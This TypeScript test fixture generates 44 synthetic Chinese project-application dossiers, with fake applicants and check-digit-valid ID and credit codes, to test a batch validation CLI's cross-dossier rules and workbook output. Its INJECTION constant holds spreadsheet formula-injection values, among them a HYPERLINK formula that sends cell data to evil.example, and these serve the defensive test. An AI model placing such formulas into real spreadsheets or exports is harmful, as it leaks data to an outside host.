// A bureau's batch for the batch and workbook tests: the samples, twenty generated valid dossiers with
// their own applicant, lead and title (identifiers with correct check characters), and the cases the
// cross-dossier rules exist for (same lead twice, one unit through two recommenders, near-same and same
// titles), plus titles that try formula injection and one that carries an ID number.
// The generated dossiers reuse the PDFs of samples/valid-key-country; run them with --no-pdf (their
// contents name the sample's applicant), or accept the content findings.
import { cpSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse, stringify } from 'yaml';
import { checkIdNumber, checkOrgCode, checkUscc } from '../src/core/checksums.js';
import { kjhz as runCli, type CliResult } from './cli-bin.js';

export const ROOT = fileURLToPath(new URL('..', import.meta.url));
export const SAMPLES = path.join(ROOT, 'samples');
export const AS_OF = '2024-11-20T10:00:00+08:00';

/** A valid 居民身份证号 for this birth date (GB 11643 check character). */
export function idNumber(birth: string, seq: number): string {
  const body = `140105${birth.replace(/-/g, '')}${String(seq % 1000).padStart(3, '0')}`;
  for (const c of '0123456789X') if (checkIdNumber(body + c).valid) return body + c;
  throw new Error(`no check digit for ${body}`);
}

/** A valid 统一社会信用代码 of a 太原 enterprise (GB 11714 body, GB 32100 check character). */
export function creditCode(n: number): string {
  const org8 = `MA${String(n).padStart(6, '0')}`;
  let org = '';
  for (const c of '0123456789X') if (checkOrgCode(org8 + c)) org = org8 + c;
  const body = `91140100${org}`;
  for (const c of '0123456789ABCDEFGHJKLMNPQRTUWXY') if (checkUscc(body + c).valid) return body + c;
  throw new Error(`no check character for ${body}`);
}

const SURNAMES = '王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗梁宋郑谢韩唐冯于董萧程曹袁邓许傅沈曾彭吕苏卢蒋蔡贾丁魏薛叶阎余潘杜戴夏钟汪田任姜范方石姚谭';
const GIVEN = ['建国', '晓东', '丽华', '志强', '海燕', '文博', '雅琴', '俊杰', '秀英', '明远', '春梅', '国栋', '佳怡', '子涵', '振华', '思远', '慧敏', '永刚', '雪莲', '浩然'];
const TOPICS = [
  '煤矸石基陶瓷膜材料制备', '高纯石英砂提纯工艺', '氢燃料电池双极板', '光伏组件回收利用', '智能矿山井下定位', '黄河流域生态修复监测',
  '小杂粮精深加工', '中药材道地性评价', '钕铁硼永磁体晶界扩散', '铝镁合金压铸模具寿命', '碳化硅功率器件封装', '液流电池电解液',
  '煤层气高效抽采', '农业节水灌溉控制', '工业固废制备路基材料', '特高压输电线路巡检', '醋酸纤维素改性', '汾酒酿造微生物群落',
  '半导体激光器芯片', '大同黄花育种', '核电用不锈钢焊接', '轨道交通轴承检测', '陶瓷基复合材料刹车片', '生物可降解地膜',
];

export function topic(i: number): string {
  return TOPICS[i % TOPICS.length]! + (i >= TOPICS.length ? `（第${Math.floor(i / TOPICS.length) + 1}期）` : '');
}

type Yaml = Record<string, any>;

let cached: Yaml | undefined;
export function template(): Yaml {
  cached ??= parse(readFileSync(path.join(SAMPLES, 'valid-key-country', 'dossier.yaml'), 'utf8')) as Yaml;
  return structuredClone(cached);
}

/** Writes `d` as DIR/dossier.yaml beside a copy of the key-country sample's PDFs. */
export function writeDossier(dir: string, d: Yaml, withPdfs = true): string {
  mkdirSync(dir, { recursive: true });
  if (withPdfs) {
    const from = path.join(SAMPLES, 'valid-key-country');
    for (const f of readdirSync(from)) if (f.endsWith('.pdf')) cpSync(path.join(from, f), path.join(dir, f));
  }
  const file = path.join(dir, 'dossier.yaml');
  writeFileSync(file, stringify(d));
  return file;
}

/** The key-country template with its own applicant, lead and title: valid, and unlike every other. */
export function uniqueDossier(i: number, overrides: { applicant?: Yaml; lead?: Yaml; project?: Yaml } = {}): Yaml {
  const d = template();
  const birth = `19${70 + (i % 25)}-0${1 + (i % 9)}-${String(10 + (i % 18)).padStart(2, '0')}`;
  d.applicant = { ...d.applicant, name: `山西${topic(i).slice(0, 4)}科技有限公司${i}`, creditCode: creditCode(100 + i), ...overrides.applicant };
  d.lead = { ...d.lead, name: SURNAMES[i % SURNAMES.length]! + GIVEN[i % GIVEN.length]!, idNumber: idNumber(birth, 10 + i), birthDate: birth, ...overrides.lead };
  d.project = {
    ...d.project,
    title: `${topic(i)}关键技术联合研发`,
    summary: `${topic(i)}：合作课题${i}`,
    ...overrides.project,
  };
  return d;
}

export interface Batch {
  root: string;
  /** Folder names (relative to root) by role. */
  valid: string[];
  broken: string[];
  unreadable: string;
  warningsOnly: string;
  dupLeadById: [string, string];
  dupLeadByNameBirth: [string, string];
  twoRecommenders: [string, string];
  nearTitles: [string, string];
  sameTitles: [string, string];
  injection: string;
  idInTitle: string;
  /** The plain ID numbers used (none may appear in any output). */
  idNumbers: string[];
  /** Every dossier folder, in the order kjhz discovers them. */
  all: string[];
}

export const INJECTION = {
  title: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  field: '+1',
  mainPartner: '-2+3',
  recommender: '@SUM(A1:A9)',
  summary: '\t=1+1 摘要',
};

/** Builds the batch under `root` (44 dossiers). */
export function makeBatch(root: string): Batch {
  const all: string[] = [];
  const ids: string[] = [];
  const put = (name: string, d: Yaml): string => {
    writeDossier(path.join(root, name), d);
    if (typeof d.lead?.idNumber === 'string') ids.push(d.lead.idNumber);
    all.push(name);
    return name;
  };
  const copySample = (sample: string, name: string): string => {
    cpSync(path.join(SAMPLES, sample), path.join(root, name), { recursive: true });
    const y = readFileSync(path.join(root, name, 'dossier.yaml'), 'utf8');
    for (const m of y.matchAll(/idNumber:\s*"?(\d{17}[\dX])/g)) ids.push(m[1]!);
    all.push(name);
    return name;
  };
  const valid = ['valid-aid', 'valid-base-platform', 'valid-belt-and-road', 'valid-key-country', 'valid-regional'].map((s, i) => copySample(s, `a${String(i + 1).padStart(2, '0')}-${s}`));
  const brokenSamples = readdirSync(SAMPLES).filter((s) => s.startsWith('broken-') && s !== 'broken-yaml-typo');
  const broken = brokenSamples.map((s, i) => copySample(s, `b${String(i + 1).padStart(2, '0')}-${s}`));
  const unreadable = copySample('broken-yaml-typo', 'b99-broken-yaml-typo');
  for (let i = 1; i <= 20; i++) valid.push(put(`c${String(i).padStart(2, '0')}-generated`, uniqueDossier(i)));

  const lead = uniqueDossier(40).lead;
  const dupLeadById: [string, string] = [put('d01-same-lead-id', uniqueDossier(41, { lead })), put('d02-same-lead-id', uniqueDossier(42, { lead: { ...lead, name: `${lead.name.slice(0, 1)}小${lead.name.slice(2)}` } }))];
  const noId = { ...uniqueDossier(43).lead, idNumber: undefined };
  delete noId.idNumber;
  const dupLeadByNameBirth: [string, string] = [put('d03-same-lead-name', uniqueDossier(44, { lead: noId })), put('d04-same-lead-name', uniqueDossier(45, { lead: noId }))];
  const unit = uniqueDossier(46).applicant;
  const twoRecommenders: [string, string] = [
    put('d05-two-recommenders', uniqueDossier(47, { applicant: { ...unit, recommender: '太原市科学技术局' } })),
    put('d06-two-recommenders', uniqueDossier(48, { applicant: { ...unit, name: `${unit.name}（本部）`, recommender: '山西省工业和信息化厅' } })),
  ];
  const unit2 = uniqueDossier(49).applicant;
  const nearTitles: [string, string] = [
    put('d07-near-title', uniqueDossier(50, { applicant: unit2, project: { title: '高性能镁合金轻量化部件联合研发' } })),
    put('d08-near-title', uniqueDossier(51, { applicant: { ...unit2, recommender: '太原市科技局' }, project: { title: '高性能镁合金轻量化部件联合研发与应用' } })),
  ];
  const unit3 = uniqueDossier(52).applicant;
  const sameTitles: [string, string] = [
    put('d09-same-title', uniqueDossier(53, { applicant: unit3, project: { title: '大同黄花良种繁育技术合作' } })),
    put('d10-same-title', uniqueDossier(54, { applicant: unit3, project: { title: '大同黄花良种繁育技术合作' } })),
  ];
  const warningsOnly = put('e01-warnings-only', uniqueDossier(55, { project: { funding: { requested: 55, matching: 110 } } }));
  const injection = put('e02-injection', uniqueDossier(56, { applicant: { recommender: INJECTION.recommender }, project: { title: INJECTION.title, field: INJECTION.field, summary: INJECTION.summary } }));
  {
    const file = path.join(root, injection, 'dossier.yaml');
    const d = parse(readFileSync(file, 'utf8')) as Yaml;
    d.partners[0].name = INJECTION.mainPartner;
    d.agreements[0].partner = INJECTION.mainPartner;
    writeFileSync(file, stringify(d));
  }
  const hidden = idNumber('1985-04-12', 36);
  ids.push(hidden);
  const idInTitle = put('e03-id-in-title', uniqueDossier(57, { project: { title: `负责人${hidden}主持的碳纤维研发` } }));
  return { root, valid, broken, unreadable, warningsOnly, dupLeadById, dupLeadByNameBirth, twoRecommenders, nearTitles, sameTitles, injection, idInTitle, idNumbers: [...new Set(ids)], all: all.sort() };
}

// The built CLI, run as a user would: one implementation, in test/cli-bin.ts.
export { ensureBuilt, type CliResult } from './cli-bin.js';

export function kjhz(args: readonly string[], cwd: string): Promise<CliResult> {
  return runCli(args, { cwd });
}
